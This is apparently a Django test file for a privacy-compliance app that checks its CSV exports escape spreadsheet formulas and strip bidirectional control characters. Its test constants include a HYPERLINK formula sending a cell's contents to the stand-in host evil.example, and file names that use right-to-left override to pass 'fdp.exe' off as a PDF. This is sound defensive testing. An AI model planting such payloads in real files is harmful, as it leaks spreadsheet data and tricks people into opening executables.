"""Every CSV that staff or a person downloads opens in a spreadsheet as data, never as a formula,
and shows a hidden reordering of its text (one writer for all: ``vern.lib.csvsafe``)."""

from __future__ import annotations

import csv
import io
import secrets
import zipfile

import pytest
import yaml
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from vern.accounts.testing import staff_login
from vern.analytics.models import DailyStat
from vern.audit.services import Actor
from vern.consent.services import consent_decide
from vern.declaration import ropa
from vern.declaration.selectors import published_declaration
from vern.declaration.services import declaration_publish
from vern.enquiries.models import Enquiry
from vern.enquiries.services import Intake, enquiry_register
from vern.lib.keys import email_index
from vern.mail.models import OutboxMessage
from vern.rights.models import Request
from vern.rights.services.downloads import download_offer

pytestmark = pytest.mark.django_db

# A cell that starts with each of these runs as a formula in some spreadsheet.
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1;"Se her")', "+47+1", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"]
# Each bidirectional control, inside a file name it would disguise ("fdp.exe" shown as "exe.pdf").
CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
HIDDEN = {f"faktura{c}fdp.exe": f"faktura[U+{ord(c):04X}]fdp.exe" for c in CONTROLS}
ORDINARY = "Kari Nordmann (Bergen kommune): «ring meg» – 50 % rabatt? 2+2"
# What a reader of the file sees in the cell, for each value planted.
SHOWN = {**{value: "'" + value for value in FORMULAS}, **HIDDEN, ORDINARY: ORDINARY}


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe(text: str, planted: dict[str, str]) -> None:
    """Every planted value reads as ``planted`` says, and nothing in the file is left to run or reorder."""
    found = cells(text)
    for value, shown in planted.items():
        assert shown in found, f"{value!r} should read {shown!r}"
        assert value == shown or value not in found
    assert not any(c in text for c in CONTROLS)
    assert [cell for cell in found if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_the_analytics_export(client, personas):
    today = timezone.localdate()
    for n, value in enumerate(SHOWN):
        DailyStat.objects.create(day=today, dimension="referrer", value=value, visits=n + 1, visitors=1)
    staff_login(client, personas.sales)
    response = client.get(f"/en/staff/analytics/export.csv?range=custom&start={today}&end={today}")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert_safe(text, SHOWN)
    visits = [row["visits"] for row in csv.DictReader(io.StringIO(text))]
    assert sorted(visits, key=int) == [str(n + 1) for n in range(len(SHOWN))]  # numbers stay numbers


def test_the_consent_proof_export(client, published, personas):
    previous = None
    for value in SHOWN:  # one visitor, changing their mind on pages with odd paths
        previous = consent_decide(
            choice="reject_all",
            categories=[],
            revision=1,
            language="nb",
            layer="banner",
            page_path=value,
            origin="",
            ip_shortened="203.0.113.0",
            gpc=False,
            previous=previous,
        ).choice
    assert previous is not None
    staff_login(client, personas.privacy_officer)
    text = client.get(f"/en/staff/consent/?id={previous.consent_id}&format=csv").content.decode()
    assert_safe(text, SHOWN)
    assert len(list(csv.DictReader(io.StringIO(text)))) == len(SHOWN)


@pytest.fixture
def planted_record(default_source):
    """A published declaration whose texts start like formulas and hide reordering; the schema
    strips a leading tab or carriage return, so those two cannot come this way."""
    data = yaml.safe_load(default_source)
    data["controller"]["name"] = FORMULAS[0]
    for purpose, value in zip(data["purposes"], [*FORMULAS[1:4], ORDINARY], strict=False):
        purpose["name"] = {"nb": value, "en": value}
    data["security"]["measures"] = [{"nb": value, "en": value} for value in HIDDEN]
    declaration_publish(source=yaml.safe_dump(data, allow_unicode=True, sort_keys=False), actor=Actor.cli())
    controller = f"{FORMULAS[0]} (922 140 251, support@kaukus.no)"
    planted = {controller: "'" + controller, **{value: SHOWN[value] for value in [*FORMULAS[1:4], ORDINARY]}}
    return planted, "; ".join(HIDDEN.values()) + "; "


def test_vern_ropa_format_csv(planted_record):
    planted, security = planted_record
    out = io.StringIO()
    call_command("ropa", "--format", "csv", "--language", "en", stdout=out)
    assert_safe(out.getvalue(), planted)
    assert all(row["security_measures"].startswith(security) for row in csv.DictReader(io.StringIO(out.getvalue())))


def test_the_record_of_processing_download(client, personas, planted_record):
    planted, security = planted_record
    staff_login(client, personas.privacy_officer)
    response = client.get("/en/staff/declaration/record/?format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode()
    assert_safe(text, planted)
    assert all(row["security_measures"].startswith(security) for row in csv.DictReader(io.StringIO(text)))


def test_the_record_of_processing_guards_a_leading_tab_and_carriage_return_too(published):
    declaration = published_declaration()
    assert declaration is not None
    record = ropa.build(declaration, "en")
    record["activities"][0]["purpose"], record["activities"][1]["purpose"] = FORMULAS[4:]
    assert_safe(ropa.as_csv(record), {value: SHOWN[value] for value in FORMULAS[4:]})


@pytest.mark.parametrize("kind", ["access", "portability"])
def test_the_packages_a_person_downloads(published, personas, kind):
    email = "kari.nordmann@example.no"
    for value in SHOWN:  # every demo she asked for (basis b: portable too), as staff typed them in
        enquiry_register(
            staff=personas.sales,
            kind=Enquiry.Kind.DEMO,
            channel=Enquiry.Channel.EMAIL,
            received_at=timezone.now(),
            intake=Intake(name="Kari Nordmann", email=email, phone="", organisation=value, message=value),
            language="nb",
            acknowledge=False,
            submission_key=secrets.token_hex(16),
        )
    now = timezone.now()
    request = Request.objects.create(
        rights=[kind],
        channel=Request.Channel.FORM,
        status=Request.Status.CONFIRMED,
        language="nb",
        email=email,
        email_index=email_index(email),
        received_at=now,
        verified_at=now,
        due_on=now.date(),
    )
    download_offer(request, kind=kind, actor=Actor.visitor(), staff=None)
    link = OutboxMessage.objects.get(kind="rights_download_ready").body_text.split("/privacy/requests/download/")[1]
    response = Client().post("/privacy/requests/download/" + link.split("/", 1)[0] + "/")
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        text = archive.read("records/enquiries.enquiry.csv").decode()
    assert_safe(text, SHOWN)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(row["message"] for row in rows) == sorted(SHOWN.values())
